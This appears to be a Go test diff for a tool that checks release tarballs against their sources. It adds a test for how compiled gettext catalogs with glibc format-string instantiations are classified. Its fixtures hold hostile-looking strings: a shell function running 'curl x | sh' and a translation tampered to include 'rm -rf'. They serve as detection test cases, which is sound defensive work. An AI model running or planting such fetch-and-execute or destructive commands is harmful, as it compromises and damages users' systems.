@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"compress/gzip"
 	"encoding/binary"
+	"maps"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -457,5 +458,41 @@ func TestHelperComparedWithItsOwnRelease(t *testing.T) {
 	c.in.Tarball = ltmain("2.4.7-dirty", "evil () {\n  curl x | sh\n}\n")
 	if sev, why, _ := c.helperClaim(nil); sev != SevHigh {
 		t.Errorf("same release with added lines: %s %q", sev, why)
+	}
+}
+
+// msgfmt (gettext ≥ 0.22) writes, beside the system-dependent table, the
+// glibc LP64 and ILP32 instantiations of a <inttypes.h> message (findutils
+// 4.10.0's .gmo: "%lu" and "%llu" for %<PRIuMAX>): they are the .po's
+// message, not extra ones. Any other message or translation stays medium.
+func TestClaimsCompiledCatalogSysdep(t *testing.T) {
+	po := "msgid \"\"\nmsgstr \"Content-Type: text/plain; charset=UTF-8\\n\"\n\n#, c-format\nmsgid \"%<PRIuMAX> bytes, ptr %<PRIxPTR>, %<PRId32>\\n\"\nmsgstr \"%<PRIuMAX> Bytes, Zeiger %<PRIxPTR>, %<PRId32>\\n\"\n"
+	head := map[string]string{"": "Content-Type: text/plain; charset=UTF-8\n"}
+	with := func(extra map[string]string) []byte {
+		m := map[string]string{}
+		maps.Copy(m, head)
+		maps.Copy(m, extra)
+		return buildMO(m)
+	}
+	ctx := claimsContext()
+	ctx.TarballFile = func(p string) ([]byte, bool) { return []byte(po), p == "po/de.po" }
+	gmo := func(b []byte) Input {
+		return Input{Path: "po/de.gmo", Status: StatusOnlyInTarball, Tarball: b, TarballSize: int64(len(b)), TarballMode: ModeFile}
+	}
+	good := with(map[string]string{
+		"%lu bytes, ptr %lx, %d\n": "%lu Bytes, Zeiger %lx, %d\n",
+		"%llu bytes, ptr %x, %d\n": "%llu Bytes, Zeiger %x, %d\n",
+	})
+	if r := Classify(gmo(good), ctx); r.Class != ClassGenerated || r.Severity != SevInfo {
+		t.Errorf("glibc instantiations: got %s/%s (%s)", r.Class, r.Severity, r.Reason)
+	}
+	for name, extra := range map[string]map[string]string{
+		"changed translation": {"%lu bytes, ptr %lx, %d\n": "%lu Bytes, rm -rf %lx, %d\n"},
+		"mixed widths":        {"%lu bytes, ptr %x, %d\n": "%lu Bytes, Zeiger %x, %d\n"},
+		"message not in .po":  {"%lu files\n": "%lu Dateien\n"},
+	} {
+		if r := Classify(gmo(with(extra)), ctx); r.Severity < SevMedium {
+			t.Errorf("%s: got %s/%s (%s)", name, r.Class, r.Severity, r.Reason)
+		}
 	}
 }
